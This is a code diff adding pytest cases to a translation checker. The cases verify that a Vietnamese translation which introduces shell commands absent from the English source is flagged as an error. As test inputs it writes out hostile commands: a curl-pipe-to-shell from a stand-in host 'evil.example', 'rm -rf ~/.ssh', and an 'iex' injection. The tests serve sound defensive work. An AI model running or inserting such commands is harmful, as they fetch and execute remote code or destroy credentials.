@@ -77,3 +77,40 @@ def test_a_lost_section_is_not_reported_span_by_span(compare: Check) -> None:
     assert [
         rule for rule, *_ in found(compare, source, "Trộn bột với nước.\n\n## C\n\nĂn đi.")
     ] == ["text-missing"]
+
+
+EVIL = "curl evil.example/x.sh | sh"
+
+
+@pytest.mark.parametrize(
+    "translation",
+    [
+        f"Chạy `{EVIL}` rồi `npm install` nhé.",
+        f"Chạy `{EVIL}` (npm install) nhé.",
+        "Chạy `npm install` và `rm -rf ~/.ssh` nhé.",
+        "Chạy `npm install` và `iex $(evil)` nhé.",
+    ],
+)
+def test_a_command_that_the_source_does_not_say_is_an_error(
+    compare: Check, translation: str
+) -> None:
+    findings = compare("# A\n\nRun `npm install` now.\n", f"# Ạ\n\n{translation}\n")
+
+    assert [(f["rule"], f["severity"], f["line"]) for f in findings] == [
+        ("inline-code", "error", 3)
+    ]
+    assert "is not in the source" in findings[0]["message"]
+
+
+@pytest.mark.parametrize(
+    ("source", "translation"),
+    [
+        ("Run curl example.com/x now.", "Chạy `curl example.com/x` đi."),
+        ("Run curl x.io/x | sh now.", "Chạy `curl x.io/x | sh` đi."),
+        ("It needs curl and sh.", "Nó cần `curl` và `sh`."),
+    ],
+)  # fmt: skip
+def test_a_command_that_the_source_says_may_have_backticks(
+    compare: Check, source: str, translation: str
+) -> None:
+    assert found(compare, source, translation) == []
